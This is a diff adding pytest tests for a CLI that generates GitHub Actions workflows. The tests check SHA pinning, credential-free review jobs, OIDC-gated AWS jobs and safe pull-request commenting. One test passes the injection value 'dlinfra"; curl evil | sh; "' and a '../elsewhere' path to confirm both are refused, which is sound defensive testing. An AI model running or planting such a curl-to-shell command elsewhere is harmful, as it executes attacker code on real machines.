@@ -1,0 +1,196 @@
+"""`dlinfra init --github`: the workflows an experiment repository adopts in one step. They pass
+GitHub's workflow schema, pin every action by SHA and dlinfra by version, keep the plan job free of
+credentials and write access, and the comment step edits its one comment on every push. GitHub's
+API cannot be reached here: tests/data/github_api_standin.py stands in for `gh api`."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from dlinfra import __version__
+from dlinfra.github import APPLY, COMMENT, PLAN, PLAN_AWS
+from support import REPO as ROOT
+from support import run_cli
+from workflow_steps import run_job
+
+STANDIN = ROOT / "tests" / "data" / "github_api_standin.py"
+REPO = "octo/experiments"
+HEAD = "b" * 40
+
+
+@pytest.fixture(scope="module")
+def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Every workflow `init --github` can write: the default two, and the optional AWS plan and apply."""
+    root = tmp_path_factory.mktemp("user-repo")
+    result = run_cli("init", "--github", "--aws", "--apply", cwd=root, env=dict(os.environ))
+    assert result.returncode == 0, result.stdout + result.stderr
+    return root / ".github" / "workflows"
+
+
+def _doc(folder: Path, name: str) -> dict[str, Any]:
+    doc = yaml.safe_load((folder / name).read_text())
+    doc["on"] = doc.pop(True)  # YAML 1.1 reads the key `on` as true
+    return doc
+
+
+def test_init_github_writes_the_two_review_workflows_and_asks_before_replacing(tmp_path: Path) -> None:
+    first = run_cli("init", "--github", cwd=tmp_path, env=dict(os.environ))
+    assert first.returncode == 0, first.stderr
+    assert sorted(p.name for p in (tmp_path / ".github" / "workflows").iterdir()) == [COMMENT, PLAN]
+    again = run_cli("init", "--github", cwd=tmp_path, env=dict(os.environ))
+    assert again.returncode == 2 and "--force" in again.stderr and "Traceback" not in again.stderr
+    assert run_cli("init", "--github", "--force", cwd=tmp_path, env=dict(os.environ)).returncode == 0
+
+
+@pytest.mark.parametrize(
+    ("flag", "value"), [("--install", 'dlinfra"; curl evil | sh; "'), ("--experiments", "../elsewhere")]
+)
+def test_init_github_refuses_what_would_break_out_of_the_yaml_or_the_repo(
+    tmp_path: Path, flag: str, value: str
+) -> None:
+    result = run_cli("init", "--github", flag, value, cwd=tmp_path, env=dict(os.environ))
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert flag in result.stderr and "Fix:" in result.stderr and "Traceback" not in result.stderr
+    assert not (tmp_path / ".github").exists()
+
+
+@pytest.mark.parametrize("name", [PLAN, COMMENT, PLAN_AWS, APPLY])
+def test_generated_workflow_is_valid_for_github_actions(written: Path, name: str) -> None:
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "check_jsonschema",
+            "--builtin-schema",
+            "vendor.github-workflows",
+            str(written / name),
+        ],
+        capture_output=True,
+        text=True,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("name", [PLAN, COMMENT, PLAN_AWS, APPLY])
+def test_generated_workflow_pins_actions_like_the_repos_own_and_dlinfra_by_version(
+    written: Path, name: str
+) -> None:
+    own = {
+        step["uses"].split("@")[0]: step["uses"]
+        for wf in ("plan.yml", "ci.yml")
+        for job in _doc(ROOT / ".github" / "workflows", wf)["jobs"].values()
+        for step in job["steps"]
+        if "uses" in step
+    }
+    doc = _doc(written, name)
+    uses = [step["uses"] for job in doc["jobs"].values() for step in job["steps"] if "uses" in step]
+    assert uses and all(u == own[u.split("@")[0]] for u in uses), uses
+    if name != COMMENT:
+        assert doc["env"]["DLINFRA_INSTALL"] == f"dlinfra[aws,emulator]=={__version__}"
+
+
+def test_default_review_job_holds_no_credential_and_no_write_access(written: Path) -> None:
+    doc = _doc(written, PLAN)
+    assert list(doc["on"]) == ["pull_request"], "pull_request_target would hand fork code a write token"
+    assert doc["permissions"] == {"contents": "read"}
+    [job] = doc["jobs"].values()
+    assert job["permissions"] == {"contents": "read"} and "environment" not in job
+    text = (written / PLAN).read_text()
+    assert "secrets." not in text and "id-token" not in text and "aws-actions/" not in text
+    runs = "\n".join(step.get("run", "") for step in job["steps"])
+    assert "--emulated" in runs and "--base" in runs
+
+
+def test_comment_workflow_runs_no_pull_request_code(written: Path) -> None:
+    doc = _doc(written, COMMENT)
+    assert list(doc["on"]) == ["workflow_run"] and doc["permissions"] == {}
+    assert doc["on"]["workflow_run"]["workflows"] == ["dlinfra plan", "dlinfra plan (aws)"]
+    [job] = doc["jobs"].values()
+    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
+    assert not any("checkout" in step.get("uses", "") for step in job["steps"])
+    assert "dlinfra" not in "\n".join(
+        step.get("run", "").replace("dlinfra-plan", "") for step in job["steps"]
+    )
+
+
+def test_credentialed_jobs_sit_behind_the_protected_environment_with_oidc(written: Path) -> None:
+    for name, role in ((PLAN_AWS, "DLINFRA_PLAN_ROLE_ARN"), (APPLY, "DLINFRA_APPLY_ROLE_ARN")):
+        [job] = _doc(written, name)["jobs"].values()
+        assert job["environment"] == "dlinfra-plan" and job["permissions"]["id-token"] == "write"
+        assert (
+            f"vars.{role}" in (written / name).read_text() and "secrets." not in (written / name).read_text()
+        )
+    [plan_aws] = _doc(written, PLAN_AWS)["jobs"].values()
+    assert "head.repo.full_name == github.repository" in plan_aws["if"], "forks never reach the role"
+    runs = "\n".join(step.get("run", "") for step in plan_aws["steps"])
+    assert "--no-upload" in runs and "--emulated" not in runs
+    [apply] = _doc(written, APPLY)["jobs"].values()
+    assert "deploy" in "\n".join(s.get("run", "") for s in apply["steps"]) and "--detach" in str(apply)
+
+
+# ---------------------------------------------------------------- the comment step, run for real
+
+
+def _post(written: Path, tmp: Path, state: dict[str, Any], comment: str, head: str = HEAD) -> dict[str, Any]:
+    """The comment job's own steps, on an artifact holding `comment`, against the stand-in's state."""
+    work = tmp / "job"
+    (work / "dlinfra-plan").mkdir(parents=True, exist_ok=True)
+    (work / "dlinfra-plan" / "comment.md").write_text(comment)
+    (work / "dlinfra-plan" / "pr-number").write_text("7\n")
+    bin_dir = tmp / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    (bin_dir / "gh").write_text(f'#!/bin/sh\nexec "{sys.executable}" "{STANDIN}" "$@"\n')
+    (bin_dir / "gh").chmod(0o755)
+    state_file = tmp / "github.json"
+    state_file.write_text(json.dumps(state))
+    github = {
+        "github.token": "ghs_standin",
+        "github.repository": REPO,
+        "github.event.workflow_run.head_sha": head,
+        "github.event.workflow_run.name": "dlinfra plan",
+        "github.event.workflow_run.id": "1",
+    }
+    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "GITHUB_STANDIN_STATE": str(state_file)}
+    job = run_job(written / COMMENT, "comment", work, github, env)
+    assert job.skipped == ["actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16"]
+    return json.loads(state_file.read_text())
+
+
+def test_comment_step_creates_one_comment_then_edits_it_on_the_next_push(
+    written: Path, tmp_path: Path
+) -> None:
+    someone = {
+        "id": 5,
+        "pr": 7,
+        "user": {"login": "octocat"},
+        "body": "<!-- dlinfra-plan --> quoted by a person",
+    }
+    state = {"repo": REPO, "pulls": {"7": HEAD}, "comments": [someone], "calls": []}
+    state = _post(written, tmp_path, state, "### first push: worker 3 → 5 (+2)\n")
+    ours = [c for c in state["comments"] if c["user"]["login"] == "github-actions[bot]"]
+    assert len(ours) == 1 and ours[0]["body"].startswith("<!-- dlinfra-plan -->\n### first push")
+    state["calls"] = []
+    state = _post(written, tmp_path, state, "### second push: worker 3 → 6 (+3)\n")
+    ours = [c for c in state["comments"] if c["user"]["login"] == "github-actions[bot]"]
+    assert len(ours) == 1, "a second push must edit the comment, not add one"
+    assert "second push" in ours[0]["body"] and "first push" not in ours[0]["body"]
+    methods = [call[call.index("--method") + 1] for call in state["calls"] if "--method" in call]
+    assert methods == ["PATCH"] and f"repos/{REPO}/issues/comments/{ours[0]['id']}" in state["calls"][-1]
+    assert someone in state["comments"], "a person's comment quoting the marker is never edited"
+
+
+def test_comment_step_posts_nothing_for_an_artifact_that_names_another_pull_request(
+    written: Path, tmp_path: Path
+) -> None:
+    """A fork controls its artifact: pr-number 7 while #7's head is another commit is not posted."""
+    state = {"repo": REPO, "pulls": {"7": "c" * 40}, "comments": [], "calls": []}
+    state = _post(written, tmp_path, state, "forged\n")
+    assert state["comments"] == [] and not any("--method" in call for call in state["calls"])
